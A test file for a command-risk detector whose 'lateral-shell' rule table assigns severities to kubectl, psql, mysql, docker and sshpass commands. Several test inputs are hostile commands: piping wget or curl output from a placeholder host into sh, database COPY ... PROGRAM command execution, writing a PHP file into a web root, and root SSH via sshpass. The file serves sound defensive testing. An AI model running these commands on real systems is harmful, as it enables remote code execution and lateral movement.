import { ruleTable } from "../../../testing/rule-table.ts";

ruleTable("lateral-shell", {
  passes: [
    ["kubectl", "exec -n web"],
    ["kubectl", "logs"],
    ["kubectl", "get"],
  ],
  commands: [
    ["/usr/local/bin/kubectl", 'create cronjob s --image=a --schedule=x -- sh -c "wget -qO- http://x|sh"', "High"],
    ["/usr/local/bin/kubectl", 'run t --image=a --restart=Never -- sh -c "curl -s http://x/health"', "none"],
    ["/usr/bin/psql", "-h db -c \"COPY t FROM PROGRAM 'id'\"", "High"],
    ["/usr/bin/psql", "-h db -c \"copy (select 1) to program 'curl x'\"", "High"],
    ["/usr/bin/psql", "-h db -c \"\\copy (select * from program) to '/tmp/x.csv' csv\"", "none"],
    ["/usr/bin/mysql", "-e \"select 1 into outfile '/var/www/x.php'\"", "High"],
    ["/usr/bin/mysql", '-e "select 1"', "none"],
    ["/usr/local/bin/kubectl", "exec -it -n finance deploy/ledger -- /bin/sh", "Medium"],
    ["/usr/local/bin/kubectl", "exec -n finance db-0 -- bash", "Medium"],
    ["/usr/local/bin/kubectl", "debug -it web-0 --image=busybox", "Medium"],
    ["/usr/local/bin/kubectl", 'exec web-0 -- sh -c "curl -s http://x.example/a | sh"', "High"],
    ["/usr/local/bin/kubectl", "apply -f https://x.example/agent.yaml", "Medium"],
    ["/usr/bin/docker", "exec -it web sh", "Medium"],
    ["/usr/bin/sshpass", "-p x ssh root@10.1.2.3", "Medium"],
    ["/usr/local/bin/kubectl", "exec -n web deploy/web-frontend -- nginx -t", "none"],
    ["/usr/local/bin/kubectl", 'exec -n web deploy/web-frontend -- sh -c "ls /etc/nginx"', "none"],
    ["/usr/local/bin/kubectl", "logs -n web deploy/bash", "none"],
    ["/usr/local/bin/kubectl", "apply -f deploy/app.yaml", "none"],
    [
      "/usr/local/bin/kubectl",
      "apply -f https://github.com/cert-manager/cert-manager/releases/download/v1/cert-manager.yaml",
      "none",
    ],
    ["/usr/local/bin/kubectl", "cp web/web-frontend-0:/etc/nginx/nginx.conf /tmp/nginx.conf", "none"],
    ["/usr/bin/docker", "exec web nginx -t", "none"],
  ],
});
